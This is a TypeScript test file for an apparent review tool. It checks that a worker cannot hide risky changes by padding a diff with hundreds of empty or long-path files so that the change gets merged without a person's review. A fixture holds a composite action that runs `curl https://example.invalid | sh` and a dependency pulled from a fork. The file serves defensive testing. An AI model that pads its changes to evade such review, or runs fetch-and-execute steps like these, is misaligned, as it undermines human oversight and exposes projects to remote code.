import { describe, expect, it } from 'vitest';
import { parseEvidenceMarker } from '../../src/core/sessions/evidence.js';
import type { PullInfo } from '../../src/core/snapshot/snapshot.js';
import { autonomyWait } from '../../src/core/verification/autonomy.js';
import { judgeChange } from '../../src/core/verification/risk.js';
import { PUBLISH_EXIT } from '../../src/session/publish/run-publish.js';
import { workerEvidence } from '../../src/session/publish/write/worker-evidence.js';
import { makeConfig, makePull } from '../core/factories.js';
import { ALLOW_WORKFLOWS } from '../session/publish/contract-fixture.js';
import { makeCompletion, workSession } from '../session/publish/fixture.js';
import { PULLS, usePublishHarness } from '../session/publish/harness.js';
import { WORKER_COMPLETION } from '../session/publish/worker-paths.js';

/**
 * The app classes only the files the evidence names (at most 300, and as many as
 * fit its share of the body). A worker that adds hundreds of empty files whose
 * paths sort first, or a few with long paths, would push a dependency from a
 * fork and a composite action under `.github/actions/` out of the evidence:
 * Baton would merge it on its own, and the final guide would say nothing risky
 * changed. Publish classes the whole diff itself and names the risky files
 * first; what it still cannot name is counted with its classes, and waits for a
 * person.
 */
const h = usePublishHarness({ config: ALLOW_WORKFLOWS });

const RISKY = {
  'package.json': '{ "dependencies": { "left-pad": "github:someone/left-pad#main" } }\n',
  '.github/actions/setup/action.yml':
    'runs:\n  using: composite\n  steps:\n    - run: curl https://example.invalid | sh\n      shell: bash\n',
};

function paddedBy(padding: Record<string, string>): string {
  const completion = makeCompletion({ summary: 'Added the login form.' });
  return workSession(
    h.fixture,
    { ...padding, ...RISKY, [WORKER_COMPLETION]: JSON.stringify(completion) },
    { result: { completion } },
  );
}

function openedEvidence() {
  const call = h.github.api.findLast((each) => each.method === 'POST' && each.path === PULLS);
  return parseEvidenceMarker((call?.body as { body?: string } | undefined)?.body ?? '');
}

const CONFIG = makeConfig();
if (!CONFIG.ok) throw new Error('the default config does not parse');
const SETTINGS = CONFIG.config.verification;

describe('padding the diff to hide risky paths from the evidence', () => {
  it.each([
    ['300 empty files whose paths sort first', 300, '.a/'],
    ['45 files with long paths', 45, `.a/${'long-folder-name/'.repeat(28)}`],
  ])('%s: the dependency and the action are named and classed', async (_name, count, folder) => {
    const padding = Object.fromEntries(
      Array.from({ length: count }, (_, i) => [
        `${folder}${String(i).padStart(4, '0')}-pad.txt`,
        '',
      ]),
    );
    const head = paddedBy(padding);
    expect(await h.publish()).toBe(PUBLISH_EXIT.published);

    const evidence = openedEvidence();
    expect(evidence?.head).toBe(head);
    const named = (evidence?.files ?? []).map((file) => file.path);
    expect(named).toEqual(expect.arrayContaining(Object.keys(RISKY)));
    const change = judgeChange(evidence ?? { files: [] }, SETTINGS, { contract: null });
    expect(change.classes).toEqual(expect.arrayContaining(['workflow', 'dependency']));
    // The app keeps it for a person, by its default `waitFor`.
    const pull: PullInfo = makePull({
      worker: 'W1.1',
      headSha: head,
      ...(evidence ? { evidence } : {}),
    });
    expect(autonomyWait(pull, SETTINGS, { contract: null })?.classes).toEqual([
      'workflow',
      'dependency',
    ]);
  });
});

describe('evidence that cannot name every risky path', () => {
  const HEAD = 'a'.repeat(40);
  const NO_CLAIMS = { checked: 0, flagged: [], artifacts: [] };

  it('counts the risky files it could not name with their classes, and waits for a person whatever waitFor says', () => {
    // More composite actions than the evidence can name, and a test changed past them.
    const diff = [
      ...Array.from({ length: 400 }, (_, i) => ({
        path: `.github/actions/a${String(i).padStart(3, '0')}/action.yml`,
        status: 'added' as const,
        lines: 5,
      })),
      { path: 'test/zz/login.test.ts', status: 'modified' as const, lines: 2 },
    ];
    const evidence = workerEvidence({ head: HEAD, diff, guarded: null, claims: NO_CLAIMS });
    const unnamed = diff.length - evidence.files.length;
    expect(unnamed).toBeGreaterThan(0);
    expect(evidence.more).toMatchObject({
      files: unnamed,
      risky: unnamed,
      classes: ['workflow', 'tests'],
    });
    const change = judgeChange(evidence, SETTINGS, { contract: null });
    expect(change.classes).toEqual(['workflow', 'tests', 'size']);

    const anything = makeConfig({ verification: { autonomy: { waitFor: [] } } });
    if (!anything.ok) throw new Error('the config does not parse');
    const pull = makePull({ worker: 'W1.1', headSha: HEAD, evidence });
    const wait = autonomyWait(pull, anything.config.verification, { contract: null });
    expect(wait?.why).toEqual([`its evidence cannot name ${unnamed} risky files`]);
  });
});
